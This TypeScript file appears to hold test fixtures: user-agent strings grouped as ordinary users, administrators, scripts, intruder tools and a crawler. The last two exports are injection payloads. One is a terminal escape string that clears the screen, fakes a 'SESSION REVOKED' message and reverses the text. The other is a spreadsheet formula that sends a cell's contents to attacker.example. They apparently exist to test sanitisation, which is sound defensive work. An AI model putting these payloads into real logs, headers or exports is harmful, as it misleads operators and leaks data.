type UserAgents = readonly [string, ...string[]];

const mozilla = (rest: string) => `Mozilla/5.0 ${rest}`;
const webkit = 'AppleWebKit/537.36 (KHTML, like Gecko)';
const safari = 'AppleWebKit/605.1.15 (KHTML, like Gecko)';

/** User agents of ordinary users. Earlier lines are picked more often, so some appear several times. */
export const personalAgents: UserAgents = [
  mozilla(`(Windows NT 10.0; Win64; x64) ${webkit} Chrome/142.0.0.0 Safari/537.36`),
  mozilla(`(Windows NT 10.0; Win64; x64) ${webkit} Chrome/142.0.0.0 Safari/537.36`),
  mozilla(`(Macintosh; Intel Mac OS X 10_15_7) ${webkit} Chrome/142.0.0.0 Safari/537.36`),
  mozilla(`(Macintosh; Intel Mac OS X 10_15_7) ${webkit} Chrome/142.0.0.0 Safari/537.36`),
  mozilla(`(iPhone; CPU iPhone OS 18_6 like Mac OS X) ${safari} Version/18.6 Mobile/15E148 Safari/604.1`),
  mozilla(`(iPhone; CPU iPhone OS 18_6 like Mac OS X) ${safari} Version/18.6 Mobile/15E148 Safari/604.1`),
  mozilla(`(Linux; Android 10; K) ${webkit} Chrome/142.0.0.0 Mobile Safari/537.36`),
  mozilla(`(Linux; Android 10; K) ${webkit} Chrome/142.0.0.0 Mobile Safari/537.36`),
  mozilla(`(X11; Linux x86_64) ${webkit} Chrome/141.0.0.0 Safari/537.36`),
  mozilla(`(X11; CrOS x86_64 14541.0.0) ${webkit} Chrome/141.0.0.0 Safari/537.36`),
  mozilla(`(Windows NT 10.0; Win64; x64) ${webkit} Chrome/138.0.0.0 Safari/537.36`),
  mozilla(`(Windows NT 10.0; Win64; x64) ${webkit} Chrome/142.0.0.0 Safari/537.36 Edg/142.0.0.0`),
  mozilla(`(Windows NT 10.0; Win64; x64) ${webkit} Chrome/141.0.0.0 Safari/537.36 OPR/123.0.0.0`),
  mozilla('(Windows NT 10.0; Win64; x64; rv:144.0) Gecko/20100101 Firefox/144.0'),
  mozilla('(Macintosh; Intel Mac OS X 10.15; rv:144.0) Gecko/20100101 Firefox/144.0'),
  mozilla('(X11; Ubuntu; Linux x86_64; rv:143.0) Gecko/20100101 Firefox/143.0'),
  mozilla('(X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0'),
  mozilla('(Android 15; Mobile; rv:144.0) Gecko/144.0 Firefox/144.0'),
  mozilla(`(Macintosh; Intel Mac OS X 10_15_7) ${safari} Version/26.1 Safari/605.1.15`),
  mozilla(`(Macintosh; Intel Mac OS X 10_15_7) ${safari} Version/18.5 Safari/605.1.15`),
  mozilla(`(iPhone; CPU iPhone OS 17_7 like Mac OS X) ${safari} Version/17.7 Mobile/15E148 Safari/604.1`),
  mozilla(`(iPad; CPU OS 18_5 like Mac OS X) ${safari} Version/18.5 Mobile/15E148 Safari/604.1`),
  mozilla(
    `(iPhone; CPU iPhone OS 18_6 like Mac OS X) ${safari} CriOS/142.0.7444.46 Mobile/15E148 Safari/604.1`,
  ),
  mozilla(
    `(Linux; Android 15; SM-S928B) ${webkit} SamsungBrowser/28.0 Chrome/130.0.0.0 Mobile Safari/537.36`,
  ),
  'okhttp/4.12.0',
];

/** User agents of administrators. */
export const deskAgents: UserAgents = [
  mozilla(`(Macintosh; Intel Mac OS X 10_15_7) ${webkit} Chrome/142.0.0.0 Safari/537.36`),
  mozilla('(Macintosh; Intel Mac OS X 10.15; rv:144.0) Gecko/20100101 Firefox/144.0'),
];

/** User agents of scripts and build servers. */
export const scriptAgents: UserAgents = [
  'curl/8.5.0',
  'python-requests/2.32.3',
  'Go-http-client/2.0',
  'node',
  'axios/1.12.2',
];

/** User agents of an intruder's tools. */
export const intruderAgents: UserAgents = [
  mozilla(`(X11; Linux x86_64) ${webkit} HeadlessChrome/131.0.0.0 Safari/537.36`),
  'python-requests/2.31.0',
];

export const botAgent = mozilla('(compatible; Googlebot/2.1; +http://www.google.com/bot.html)');

/** Clears the screen, imitates another program's output, and reverses the rest of the line. */
export const terminalAttackAgent =
  'Mozilla/5.0 \u001b[2J\u001b[1;31mSESSION REVOKED\u001b[0m\r\n\u202egro.elpmaxe\u202c\u0007 (\u009b31m)';

/** A spreadsheet executes this when it opens the CSV, unless it is defused. */
export const formulaAgent = '=HYPERLINK("https://attacker.example/?leak="&A1,"Details")';
